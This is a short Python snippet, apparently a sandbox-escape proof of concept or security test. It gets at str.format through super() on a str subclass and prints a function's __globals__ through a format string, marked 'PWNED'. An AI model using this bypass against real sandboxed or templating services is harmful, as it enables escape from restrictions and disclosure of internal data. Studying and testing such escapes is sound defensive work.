class S(str):
    pass
def f():
    pass
s = super(S, S("{0.__globals__}"))
print("PWNED", s.format(f))
